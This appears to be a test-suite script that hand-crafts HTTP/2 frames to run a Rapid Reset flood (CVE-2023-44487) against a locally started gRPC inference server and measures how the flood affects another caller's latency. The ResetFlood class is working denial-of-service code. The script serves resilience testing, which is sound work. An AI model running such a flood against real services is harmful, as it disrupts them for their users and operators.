"""HTTP/2 by hand: what no gRPC library would send. By hand, what a flood of resets costs another caller:

python -m tests.faults.raw_http2 --resets 200000
"""

import argparse
import itertools
import socket
import statistics
import struct
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import grpc

from ml_inference_server.proto import inference_pb2 as pb
from ml_inference_server.proto import inference_pb2_grpc as rpc
from ml_inference_server.server.rpc.native import SERVICE
from tests.integration.server_process import server_process

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7
END_HEADERS = 4
MAX_CONCURRENT_STREAMS, MAX_HEADER_LIST_SIZE = 3, 6
CANCEL = 8
_LAST_STREAM = 2**31 - 1


def frame(kind: int, stream: int = 0, payload: bytes = b"", flags: int = 0) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def headers_of_a_call(method: str, address: str, service: str = SERVICE) -> bytes:
    """A block without compression."""
    pairs = [
        (":method", "POST"), (":scheme", "http"), (":path", f"/{service}/{method}"), (":authority", address),
        ("te", "trailers"), ("content-type", "application/grpc"),
    ]  # fmt: skip
    block = b""
    for name, value in pairs:
        block += b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return block


def read_frame(connection: socket.socket) -> tuple[int, bytes]:
    """(kind, payload); EOFError at the end."""
    head = _exactly(connection, 9)
    return head[3], _exactly(connection, int.from_bytes(head[:3], "big"))


def _exactly(connection: socket.socket, count: int) -> bytes:
    found = b""
    while len(found) < count:
        if not (part := connection.recv(count - len(found))):
            raise EOFError
        found += part
    return found


def settings_of(port: int) -> dict[int, int]:
    """What the server says at the beginning of a connection."""
    with socket.create_connection(("127.0.0.1", port)) as connection:
        connection.sendall(PREFACE + frame(SETTINGS))
        kind, payload = read_frame(connection)
        assert kind == SETTINGS
        return dict(struct.iter_unpack(">HI", payload))


class ResetFlood:
    """Calls that are reset as soon as they have begun (CVE-2023-44487), from a thread, until the block ends.

    resets: sent so far. connections: opened for them, as a server may close one.
    """

    def __init__(self, port: int, most: int, rate_per_s: float = 0) -> None:
        """rate_per_s: 0 for as fast as the server reads."""
        self.resets = self.connections = 0
        self._rate_per_s = rate_per_s
        self._port, self._most = port, most
        self._is_over = threading.Event()
        self.thread = threading.Thread(target=self._run)

    def __enter__(self) -> "ResetFlood":
        self.thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._is_over.set()
        self.thread.join()

    def _run(self) -> None:
        while self.resets < self._most and not self._is_over.is_set():
            try:
                self._flood_one_connection()
            except (OSError, EOFError):
                continue

    def _flood_one_connection(self) -> None:
        self.connections += 1
        with socket.create_connection(("127.0.0.1", self._port)) as connection:
            connection.sendall(PREFACE + frame(SETTINGS) + frame(SETTINGS, flags=1))
            threading.Thread(target=_read_all, args=(connection,), daemon=True).start()
            block = headers_of_a_call("Embed", f"127.0.0.1:{self._port}")
            for numbers in _batches(itertools.count(1, 2), 100):
                if self.resets >= self._most or self._is_over.is_set() or numbers[-1] > _LAST_STREAM:
                    return
                calls = (
                    frame(HEADERS, number, block, END_HEADERS) + frame(RST_STREAM, number, CANCEL.to_bytes(4, "big"))
                    for number in numbers
                )
                connection.sendall(b"".join(calls))
                self.resets += len(numbers)
                if self._rate_per_s:
                    self._is_over.wait(len(numbers) / self._rate_per_s)


def _batches(numbers: Iterator[int], size: int) -> Iterator[list[int]]:
    while True:
        yield list(itertools.islice(numbers, size))


def _read_all(connection: socket.socket) -> None:
    try:
        while connection.recv(65536):
            pass
    except OSError:
        pass


def _latencies_ms(stub: rpc.InferenceServiceStub, seconds: float) -> list[float]:
    """Of calls one after the other, 5 ms apart."""
    found: list[float] = []
    end = time.monotonic() + seconds
    while (began := time.monotonic()) < end:
        stub.Embed(pb.EmbedRequest(texts=[f"text {len(found)}"]), timeout=10)
        found.append(1000 * (time.monotonic() - began))
        time.sleep(0.005)
    return found


def _told(name: str, found: list[float]) -> None:
    p99 = statistics.quantiles(found, n=100)[98]
    print(f"{name}: {len(found)} calls, p50 {statistics.median(found):.2f} ms, p99 {p99:.2f} ms")


def main() -> int:
    parser = argparse.ArgumentParser(description="What a flood of resets costs another caller.")
    parser.add_argument("--resets", type=int, default=200_000)
    parser.add_argument("--rate", type=float, default=0, help="resets per second; 0: as many as go")
    parser.add_argument("--seconds", type=float, default=5)
    given = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder, server_process(Path(folder)) as server:
        port = server.ready()["grpc_port"]
        with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
            stub = rpc.InferenceServiceStub(channel)
            _latencies_ms(stub, 0.5)
            _told("without", _latencies_ms(stub, given.seconds))
            with ResetFlood(port, given.resets, given.rate) as flood:
                found = _latencies_ms(stub, given.seconds)
            _told(f"with {flood.resets} resets over {flood.connections} connections", found)
            _told("after", _latencies_ms(stub, given.seconds))
    return 0


if __name__ == "__main__":
    sys.exit(main())
